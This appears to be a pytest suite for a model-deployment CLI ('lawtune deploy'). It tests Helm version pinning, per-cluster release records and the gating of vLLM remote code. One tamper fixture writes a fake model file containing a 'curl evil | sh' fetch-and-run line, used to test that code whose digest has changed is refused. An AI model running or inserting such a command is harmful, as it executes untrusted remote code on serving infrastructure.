"""shared/serve/deploy.py (``lawtune deploy``): PROMOTED is resolved once, on the deploying
machine, and the release's pods all get that version (file and S3 artifact roots; real helm)."""

from __future__ import annotations

import json

import pytest
import yaml

from shared.core.settings import load_settings
from shared.serve import deploy
from shared.store.artifacts import commit_dir, now_iso
from shared.store.releases import releases
from shared.store.storage import open_location
from tests.helm_utils import helm_path

VALUES = {"apiKey": {"existingSecret": "lawtune-api-key"}, "artifactStore": {"root": "s3://elsewhere/ignored"}}


@pytest.fixture
def published(artifact_root, tmp_path):
    """models/legal-assistant/{v1,v2} committed, PROMOTED -> v2; v3 uploaded but never committed."""
    settings = load_settings()
    root = settings.models_uri("legal-assistant")
    for version in ("v1", "v2"):
        src = tmp_path / f"src-{version}"
        src.mkdir()
        (src / "config.json").write_text("{}")
        commit_dir(src, open_location(f"{root}/{version}", settings), stage="publish", inputs={}, started_at=now_iso())
    open_location(f"{root}/v3", settings).write_text("config.json", "{}")
    open_location(root, settings).write_text("PROMOTED", "v2")
    values = tmp_path / "values.yaml"
    values.write_text(yaml.safe_dump(VALUES))
    return settings, values


def _rendered(capfd, argv: list[str]) -> list[dict]:
    assert deploy.main(argv) == 0
    return [d for d in yaml.safe_load_all(capfd.readouterr().out) if d]


def test_dry_run_pins_the_promoted_version_for_every_pod(published, capfd):
    settings, values = published
    helm_path()
    objects = _rendered(capfd, ["--release", "assistant", "-f", str(values), "--dry-run"])
    (vllm,) = [o for o in objects if o["kind"] == "Deployment" and o["metadata"]["name"].endswith("-vllm")]
    template = vllm["spec"]["template"]
    assert template["metadata"]["annotations"]["lawtune.io/model-version"] == "v2"
    fetch = template["spec"]["initContainers"][0]
    # The artifact root deployed is the one PROMOTED was read from, whatever the values file said.
    assert fetch["args"] == [f"{settings.artifact_root}/models/legal-assistant/v2", "/models/legal-assistant/v2"]
    # A later promotion changes nothing already deployed: the version is in the release, not read at pod start.
    open_location(settings.models_uri("legal-assistant"), settings).write_text("PROMOTED", "v1")
    assert fetch["args"][0].endswith("/v2")
    pinned = _rendered(capfd, ["--release", "assistant", "-f", str(values), "--dry-run", "--version", "v1"])
    (vllm1,) = [o for o in pinned if o["kind"] == "Deployment" and o["metadata"]["name"].endswith("-vllm")]
    assert vllm1["spec"]["template"] != template  # a new version rolls every pod


@pytest.mark.parametrize(("setup", "argv", "message"), [
    pytest.param(None, [], "PROMOTED is missing", id="nothing-promoted"),
    pytest.param("v3", [], "has no MANIFEST.json", id="promoted-version-not-committed"),
    pytest.param("../v1", [], "expected a version name", id="path-in-promoted"),
    pytest.param("v2", ["--version", "v9"], "has no MANIFEST.json", id="unknown-version"),
])
def test_refuses_what_it_cannot_pin_with_one_line(published, capfd, setup, argv, message):
    settings, values = published
    models = open_location(settings.models_uri("legal-assistant"), settings)
    if setup is None:
        models.delete("PROMOTED")
    else:
        models.write_text("PROMOTED", setup)
    assert deploy.main(["--release", "assistant", "-f", str(values), "--dry-run", *argv]) == 2
    err = capfd.readouterr().err.strip().splitlines()
    assert len(err) == 1 and err[0].startswith("lawtune deploy: error:") and message in err[0], err


def test_helm_command_upgrades_with_the_version_set_last(tmp_path):
    helm_path()
    cmd = deploy.helm_command(release="r", model_name="m", version="20261128", artifact_root="s3://b/p", values=[tmp_path / "a.yaml"],
                              namespace="serving", extra=["--atomic"])
    assert cmd[1:5] == ["upgrade", "--install", "r", str(deploy.CHART)]
    assert cmd[5:11] == ["--namespace", "serving", "--reset-then-reuse-values", "--wait", "--timeout", "30m"]
    # Remote code is set both ways: off unless the operator's switch is on, whatever the release had.
    assert cmd[-9:] == ["--set-string", "model.name=m", "--set-string", "model.version=20261128",
                        "--set-string", "artifactStore.root=s3://b/p", "--set", "vllm.trustRemoteCode=false", "--atomic"]
    trusted = deploy.helm_command(release="r", model_name="m", version="v", artifact_root="s3://b/p", values=[], namespace=None,
                                  trust_remote_code=True)
    assert trusted[-2:] == ["--set", "vllm.trustRemoteCode=true"]
    assert cmd.index("--values") < cmd.index("--set-string")
    reset = deploy.helm_command(release="r", model_name="m", version="v", artifact_root="s3://b/p", values=[], namespace=None,
                                reset_values=True, timeout="1h")
    assert reset[5:9] == ["--reset-values", "--wait", "--timeout", "1h"] and "--reset-then-reuse-values" not in reset


# ---------------------------------------------------------------- values operators set on the release

OPERATOR_VALUES = {"apiKey": {"existingSecret": "lawtune-api-key"}, "artifactStore": {"root": "s3://b/p"},
                   "model": {"name": "legal-assistant", "version": "v1"},
                   "maintenance": {"enabled": True, "message": "Back at 10:00 UTC."},
                   "ui": {"enabled": True, "auth": "ingress", "ingress": {
                       "identityHeader": "X-Auth-Request-Email",
                       "from": [{"namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "ingress-nginx"}}}]}},
                   # An earlier deploy of a model that ran its own code: the next deploy must not inherit it.
                   "vllm": {"trustRemoteCode": True}}


def _upgrade_against_a_release(tmp_path, **command) -> dict:
    """The real helm runs deploy's `helm upgrade --install` (with --dry-run=server) against the
    stand-in API server of the key-rotation test, which also holds the release's revision 3 in
    Helm's own storage (a Secret of type helm.sh/release.v1: base64 of gzipped JSON): what an
    operator's `helm upgrade --reuse-values --set maintenance.enabled=true --set ui...` left."""
    import base64
    import gzip

    from tests.charts.test_lawtune_serving_key_rotation import ServingApiServer
    from tests.helm_utils import helm_dry_run_server

    stored = {"name": "assistant", "namespace": "lawtune", "version": 3, "manifest": "", "config": OPERATOR_VALUES,
              "info": {"status": "deployed", "first_deployed": "2026-11-20T10:00:00Z", "last_deployed": "2026-11-21T10:00:00Z"},
              "chart": {"metadata": {"apiVersion": "v2", "name": "lawtune-serving", "version": "0.1.0"}}}
    encoded = base64.b64encode(gzip.compress(json.dumps(stored).encode()))

    class WithRelease(ServingApiServer):
        def answer(self, path):
            if path == "/api/v1/namespaces/lawtune/secrets":  # Helm's release history
                return {"kind": "SecretList", "apiVersion": "v1", "metadata": {}, "items": [{
                    "apiVersion": "v1", "kind": "Secret", "type": "helm.sh/release.v1", "data": {"release": base64.b64encode(encoded).decode()},
                    "metadata": {"name": "sh.helm.release.v1.assistant.v3", "namespace": "lawtune",
                                 "labels": {"name": "assistant", "owner": "helm", "status": "deployed", "version": "3"}}}]}
            return super().answer(path)

    values = tmp_path / "deploy-values.yaml"
    values.write_text(yaml.safe_dump({"apiKey": {"existingSecret": "lawtune-api-key"}}))
    cmd = deploy.helm_command(release="assistant", model_name="legal-assistant", version="v2", artifact_root="s3://b/p",
                              values=[values], namespace=None, **command)
    api = WithRelease({})
    try:
        return helm_dry_run_server(api.server.server_address[1], cmd)
    finally:
        api.close()


@pytest.mark.integration
def test_a_deploy_keeps_the_values_operators_set_on_the_release(tmp_path):
    """NOTES.txt and the README switch maintenance and the page with `helm upgrade --reuse-values`:
    the next `lawtune deploy` must not switch them back off while it pins the new version."""
    helm_path()
    release = _upgrade_against_a_release(tmp_path)
    assert release["version"] == 4 and release["config"]["model"]["version"] == "v2"
    assert release["config"]["maintenance"] == OPERATOR_VALUES["maintenance"]
    assert release["config"]["ui"] == OPERATOR_VALUES["ui"]
    assert "Back at 10:00 UTC." in release["manifest"]  # the gateway still answers with the maintenance message
    # ... but remote code is the switch of this deploy, never one kept from the last (reuse-values kept it on).
    assert release["config"]["vllm"]["trustRemoteCode"] is False and "--trust-remote-code" not in release["manifest"]
    trusted = _upgrade_against_a_release(tmp_path, trust_remote_code=True)
    assert trusted["config"]["vllm"]["trustRemoteCode"] is True and "--trust-remote-code" in trusted["manifest"]
    fresh = _upgrade_against_a_release(tmp_path, reset_values=True)  # --reset-values: only the files and the pin
    assert "maintenance" not in fresh["config"] and fresh["config"]["model"]["version"] == "v2"


# ---------------------------------------------------------------- waiting and recording, per cluster


def _stand_in_helm(tmp_path, upgrade_rc: int = 0, status: dict | None = None):
    """A stand-in for helm talking to a cluster (no Kubernetes API runs here): it logs its
    arguments, answers `upgrade` with ``upgrade_rc`` (as `helm upgrade --wait` does when the rollout
    is not ready within --timeout) and `status` with the release's JSON."""
    log = tmp_path / "helm-calls.txt"
    script = tmp_path / "helm"
    status = status or {"name": "assistant", "namespace": "serving", "version": 7, "info": {"status": "deployed"}}
    script.write_text(
        "#!/bin/sh\n"
        f'echo "$@" >> {log}\n'
        f'if [ "$1" = upgrade ]; then exit {upgrade_rc}; fi\n'
        f"if [ \"$1\" = status ]; then echo '{json.dumps(status)}'; fi\n")
    script.chmod(0o755)
    return script, log


def _kubeconfig(tmp_path, clusters: dict[str, str], current: str):
    """A kube config with one context per cluster ({context: cluster})."""
    path = tmp_path / "kubeconfig"
    path.write_text(yaml.safe_dump({
        "apiVersion": "v1", "kind": "Config", "current-context": current,
        "clusters": [{"name": c, "cluster": {"server": f"https://{c}.example:6443"}} for c in clusters.values()],
        "users": [{"name": "u", "user": {"token": "t"}}],
        "contexts": [{"name": ctx, "context": {"cluster": c, "user": "u"}} for ctx, c in clusters.items()]}))
    return path


def test_a_deploy_records_which_release_serves_the_version_per_cluster(published, tmp_path, monkeypatch, capfd):
    """Staging and prod have the same namespace and release name: each keeps its own record."""
    settings, values = published
    helm, calls = _stand_in_helm(tmp_path)
    monkeypatch.setenv("LAWTUNE_HELM", str(helm))
    monkeypatch.setenv("LAWTUNE_ACTOR", "ci-deployer")
    monkeypatch.delenv("LAWTUNE_CLUSTER", raising=False)
    monkeypatch.setenv("KUBECONFIG", str(_kubeconfig(tmp_path, {"staging": "staging-eks", "prod": "arn:aws:eks:eu-west-1:1:cluster/prod"},
                                                       current="staging")))
    assert deploy.main(["--release", "assistant", "-f", str(values), "--namespace", "serving"]) == 0
    assert "staging-eks/serving/assistant: legal-assistant version v2 is ready" in capfd.readouterr().out
    upgrade = next(c for c in calls.read_text().splitlines() if c.startswith("upgrade"))
    assert upgrade.startswith("upgrade --install assistant") and "--reset-then-reuse-values --wait --timeout 30m" in upgrade
    models = open_location(settings.models_uri("legal-assistant"), settings)
    (record,) = releases(models)
    assert (record["cluster"], record["namespace"], record["release"], record["version"], record["status"]) == \
        ("staging-eks", "serving", "assistant", "v2", "deployed")
    assert record["helm_revision"] == 7 and record["actor"] == "ci-deployer" and record["artifact_root"] == settings.artifact_root
    assert record["chart"].startswith("lawtune-serving-")

    # The same namespace/release on prod (helm's --kube-context picks the cluster): a record of its own.
    assert deploy.main(["--release", "assistant", "-f", str(values), "--namespace", "serving", "--version", "v1",
                        "--", "--kube-context", "prod"]) == 0
    assert "--kube-context prod" in calls.read_text().splitlines()[-1]  # helm status asks the same cluster
    assert sorted((r["cluster"], r["version"]) for r in releases(models)) == [("arn:aws:eks:eu-west-1:1:cluster/prod", "v1"),
                                                                             ("staging-eks", "v2")]
    # The next deploy of a release replaces its record: it says what runs now.
    assert deploy.main(["--release", "assistant", "-f", str(values), "--namespace", "serving", "--cluster", "staging-eks",
                        "--version", "v1"]) == 0
    assert sorted((r["cluster"], r["version"]) for r in releases(models)) == [("arn:aws:eks:eu-west-1:1:cluster/prod", "v1"),
                                                                             ("staging-eks", "v1")]


def test_a_rollout_that_does_not_get_ready_is_recorded_as_failed(published, tmp_path, monkeypatch, capfd):
    """helm upgrade --wait exits 1 when the pods are not ready in time, with the version applied
    (its last revision failed): the record says so instead of calling the release serving."""
    settings, values = published
    helm, _ = _stand_in_helm(tmp_path, upgrade_rc=1, status={
        "name": "assistant", "namespace": "serving", "version": 8, "info": {"status": "failed"},
        "config": {"model": {"name": "legal-assistant", "version": "v2"}}})
    monkeypatch.setenv("LAWTUNE_HELM", str(helm))
    assert deploy.main(["--release", "assistant", "-f", str(values), "--namespace", "serving", "--cluster", "prod",
                        "--timeout", "20m"]) == 1
    err = capfd.readouterr().err.strip().splitlines()[-1]
    assert "did not get ready within 20m" in err and "recorded as failed" in err
    (record,) = releases(open_location(settings.models_uri("legal-assistant"), settings))
    assert (record["version"], record["status"], record["helm_revision"]) == ("v2", "failed", 8)


def test_a_helm_failure_before_anything_was_applied_records_nothing(published, tmp_path, monkeypatch):
    settings, values = published
    helm, _ = _stand_in_helm(tmp_path, upgrade_rc=1, status={
        "name": "assistant", "namespace": "serving", "version": 6, "info": {"status": "deployed"},
        "config": {"model": {"name": "legal-assistant", "version": "v1"}}})
    monkeypatch.setenv("LAWTUNE_HELM", str(helm))
    assert deploy.main(["--release", "assistant", "-f", str(values), "--cluster", "prod"]) == 1
    assert releases(open_location(settings.models_uri("legal-assistant"), settings)) == []


def test_a_deploy_that_cannot_name_its_cluster_refuses_before_helm(published, tmp_path, monkeypatch, capfd):
    _, values = published
    helm, calls = _stand_in_helm(tmp_path)
    monkeypatch.setenv("LAWTUNE_HELM", str(helm))
    monkeypatch.delenv("LAWTUNE_CLUSTER", raising=False)
    monkeypatch.setenv("KUBECONFIG", str(tmp_path / "missing"))
    assert deploy.main(["--release", "assistant", "-f", str(values)]) == 2
    assert "--cluster or LAWTUNE_CLUSTER" in capfd.readouterr().err and not calls.exists()


def _vllm_args(objects: list[dict]) -> list[str]:
    (vllm,) = [o for o in objects if o["kind"] == "Deployment" and o["metadata"]["name"].endswith("-vllm")]
    (container,) = [c for c in vllm["spec"]["template"]["spec"]["containers"] if c["name"] == "vllm"]
    return container["args"]


def _fetch_args(objects: list[dict]) -> list[str]:
    (vllm,) = [o for o in objects if o["kind"] == "Deployment" and o["metadata"]["name"].endswith("-vllm")]
    return vllm["spec"]["template"]["spec"]["initContainers"][0]["args"]


GLM_CONFIG = {"model_type": "chatglm", "auto_map": {
    "AutoConfig": "configuration_chatglm.ChatGLMConfig", "AutoModelForCausalLM": "modeling_chatglm.ChatGLMForConditionalGeneration"}}


def _publish_glm(settings, tmp_path, *, record: bool = True, tamper: bool = False) -> None:
    """models/legal-assistant/glm: ChatGLM3-like (auto_map + its code file), with publish's record of the code."""
    from shared.store.model_code import code_files

    src = tmp_path / "src-glm"
    src.mkdir()
    (src / "config.json").write_text(json.dumps(GLM_CONFIG))
    (src / "modeling_chatglm.py").write_text("class ChatGLMForConditionalGeneration: pass\n")
    recorded = code_files(src)
    if tamper:  # the store now holds other code than the code finetune ran
        (src / "modeling_chatglm.py").write_text("import os; os.system('curl evil | sh')\n")
    commit_dir(src, open_location(f"{settings.models_uri('legal-assistant')}/glm", settings), stage="publish", inputs={},
               started_at=now_iso(), extra={"remote_code": recorded} if record else {})


def test_the_versions_own_config_never_turns_remote_code_on(published, tmp_path, capfd):
    """issue 24 item 2: before, deploy set vllm.trustRemoteCode=true because the stored config had an auto_map."""
    settings, values = published
    helm_path()
    _publish_glm(settings, tmp_path)
    assert deploy.main(["--release", "a", "-f", str(values), "--dry-run", "--version", "glm"]) == 2
    err = capfd.readouterr().err.strip().splitlines()
    assert err[-1].startswith("lawtune deploy: error: version glm needs its repository's own code")
    assert "--trust-remote-code" in err[-1] and "vllm.trustRemoteCode: true" in err[-1], err


@pytest.mark.parametrize("switch", ["flag", "values", "helm-set", "helm-set-list"])
def test_the_operators_switch_serves_the_recorded_code(published, tmp_path, capfd, switch):
    settings, values = published
    helm_path()
    _publish_glm(settings, tmp_path)
    argv = ["--release", "a", "-f", str(values), "--dry-run", "--version", "glm"]
    if switch == "flag":
        argv.append("--trust-remote-code")
    elif switch == "values":
        on = tmp_path / "trust.yaml"
        on.write_text(yaml.safe_dump({"vllm": {"trustRemoteCode": True}}))
        argv += ["-f", str(on)]
    elif switch == "helm-set":  # helm flags after `--` come after deploy's own --set and win
        argv += ["--", "--set", "vllm.trustRemoteCode=true"]
    else:
        argv += ["--", "--set=ui.enabled=false,vllm.trustRemoteCode=true"]
    objects = _rendered(capfd, argv)
    assert "--trust-remote-code" in _vllm_args(objects)
    # The init container checks the code files against the version's record again, in the pod.
    assert _fetch_args(objects)[-1] == "--trust-remote-code"
    assert "--trust-remote-code" not in _vllm_args(_rendered(capfd, ["--release", "a", "-f", str(values), "--dry-run"]))


@pytest.mark.parametrize("switch", ["--set", "--set-string"])
def test_a_helm_set_after_the_switch_turns_it_off_as_helm_does(published, tmp_path, capfd, switch):
    """`--trust-remote-code -- --set vllm.trustRemoteCode=false`: helm runs with false (its --set comes
    last), so deploy treats remote code as off: a version that needs it is refused naming the switch."""
    settings, values = published
    helm_path()
    _publish_glm(settings, tmp_path)
    argv = ["--release", "a", "-f", str(values), "--dry-run", "--trust-remote-code"]
    assert deploy.main([*argv, "--version", "glm", "--", switch, "vllm.trustRemoteCode=true,vllm.trustRemoteCode=false"]) == 2
    err = capfd.readouterr().err.strip().splitlines()
    assert err[-1].startswith("lawtune deploy: error: version glm needs its repository's own code"), err
    # A version without remote code renders, with vLLM's flag off, as helm's last --set says.
    if switch == "--set":
        assert "--trust-remote-code" not in _vllm_args(_rendered(capfd, [*argv, "--", "--set", "vllm.trustRemoteCode=false"]))


def test_a_helm_flag_that_sets_remote_code_another_way_is_refused(published, tmp_path, capfd):
    settings, values = published
    _publish_glm(settings, tmp_path)
    assert deploy.main(["--release", "a", "-f", str(values), "--dry-run", "--version", "glm", "--",
                        "--set-json", 'vllm={"trustRemoteCode":true}']) == 2
    err = capfd.readouterr().err.strip().splitlines()
    assert err[-1].startswith("lawtune deploy: error: --set-json vllm=") and "--trust-remote-code" in err[-1], err


@pytest.mark.parametrize(("record", "tamper", "needle"), [
    pytest.param(True, True, "modeling_chatglm.py: sha256 .* differs from the .* recorded; refused", id="code-changed"),
    pytest.param(False, False, "modeling_chatglm.py: .* records no remote-code digests", id="no-record"),
])
def test_code_files_the_record_does_not_allow_are_refused(published, tmp_path, capfd, record, tamper, needle):
    import re

    settings, values = published
    _publish_glm(settings, tmp_path, record=record, tamper=tamper)
    assert deploy.main(["--release", "a", "-f", str(values), "--dry-run", "--version", "glm", "--trust-remote-code"]) == 2
    err = capfd.readouterr().err.strip().splitlines()
    assert err[-1].startswith("lawtune deploy: error: ") and re.search(needle, err[-1]), err
